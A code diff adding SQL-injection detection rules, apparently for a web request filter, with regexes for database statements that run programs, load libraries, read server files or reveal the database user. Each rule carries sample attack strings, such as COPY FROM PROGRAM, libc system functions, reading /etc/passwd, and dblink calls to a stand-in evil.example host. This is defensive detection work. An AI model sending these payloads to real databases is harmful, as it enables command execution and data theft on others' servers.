@@ -1,0 +1,72 @@
+import { CHAR } from '../features.ts'
+import { pattern, type Rule } from '../rule.ts'
+import { WORD } from '../words.ts'
+
+/**
+ * Statements with which a database runs a program, loads a library, or reads and writes files and addresses
+ * of its server. A query that a tool of reports sends has none of them, so they count in documents as well.
+ */
+export const databaseProgramRules: readonly Rule[] = [
+  pattern(
+    'sqli/program',
+    /\bcopy\b[^;\n]{1,160}?\b(?:from|to)\s{1,4}program\s{0,4}['$]|\bcreate\s{1,4}(?:or\s{1,4}replace\s{1,4})?(?:aggregate\s{1,4})?function\b[^;\n]{1,200}?(?:\bsoname\s{0,4}['"]|\blanguage\s{1,4}['"]?(?:c|plpython\d?u|plperlu|plsh)\b|['"][^'"\n]{0,80}\b(?:libc|system)\b)|\bcreate\s{1,4}alias\b[^;\n]{1,120}?(?:\bas\s{1,4}(?:\$\$|'')|\bfor\s{1,4}['"]?java\.)|\b(?:install|load)\s{1,4}['"]?(?:shellfs|httpfs)\b|\bread_csv\w{0,6}\s{0,4}\(\s{0,4}['"][^'"\n|]{1,80}\|/,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.sqlServer,
+      attacks: [
+        "COPY x FROM PROGRAM 'id'",
+        "create function sys_eval returns string soname 'x.so'",
+        "CREATE OR REPLACE FUNCTION f(text) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C STRICT",
+        'CREATE ALIAS RUN AS $$ String run(String c) { return c; } $$',
+        "install shellfs from community; load shellfs; select * from read_csv('id |')",
+      ],
+      benign: [
+        'create function total(a int) returns int language sql as $$ select a $$',
+        'copy the file from program to program',
+        'load the page',
+        "copy orders to stdout with csv header delimiter '|'",
+      ],
+    },
+  ),
+  pattern(
+    'sqli/server-file',
+    /\b(?:load_extension|lo_export|pg_(?:ls_dir|read_binary_file|stat_file|file_write|logdir_ls)|dblink(?:_connect|_exec)?|sys_(?:eval|exec|get|set)|query_to_xml\w{0,12}|database_to_xml\w{0,12}|table_to_xml\w{0,12}|httpuritype|read2clob|hexec|file_read|file_write|openxml|bulk\s{1,4}insert\s{1,4}\w{1,40}\s{1,4}from)\s{0,4}(?:\(|')|\bcurrent_setting\s{0,4}\(\s{0,4}'|\bcreate\s{1,4}extension\s{1,4}(?:if\s{1,4}not\s{1,4}exists\s{1,4})?(?:dblink|plpython\w{0,4}|plperlu|adminpack|file_fdw)\b|\bdbms_(?:xslprocessor|scheduler|advisor|xmlquery|sql|utility)\s{0,2}\.\s{0,2}\w{1,40}\s{0,4}\(|\bxp_cmdshell\b|\bread_(?:text|blob|csv|parquet)\w{0,6}\s{0,4}\(\s{0,4}['"](?:\/(?:etc|proc|root|home)\/|https?:)/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.paren | CHAR.apostrophe | CHAR.space,
+      words: WORD.sqlServer,
+      attacks: [
+        "load_extension('\\\\evil.example\\x')",
+        "select dblink_connect('host=evil.example')",
+        "database_to_xml(true,true,'')",
+        "dbms_xslprocessor.read2clob('x','y')",
+        "httpuritype('http://evil.example/').getclob()",
+        "SELECT current_setting('is_superuser')",
+        "'; CREATE EXTENSION dblink--",
+        "select * from read_text('/etc/passwd')",
+      ],
+      benign: [
+        'load extension cords (2)',
+        'dblink is a module',
+        "create extension 'x'",
+        'the current setting (on)',
+      ],
+    },
+  ),
+  // What tells an intruder who he is to the database, as the whole value.
+  pattern(
+    'sqli/whoami',
+    /^\s{0,4}(?:user|version|database|system_user|session_user|current_user|current_database|sqlite_version)\s{0,2}\(\s{0,2}\)\s{0,4}$/,
+    {
+      score: 5,
+      atStart: true,
+      chars: CHAR.paren,
+      words: WORD.sqlName,
+      places: ['path', 'query', 'form', 'cookie', 'header'],
+      attacks: ['version()', 'user()', 'current_database()'],
+      benign: ['now()', 'uuid()', 'user(1)', 'call version() first'],
+    },
+  ),
+]
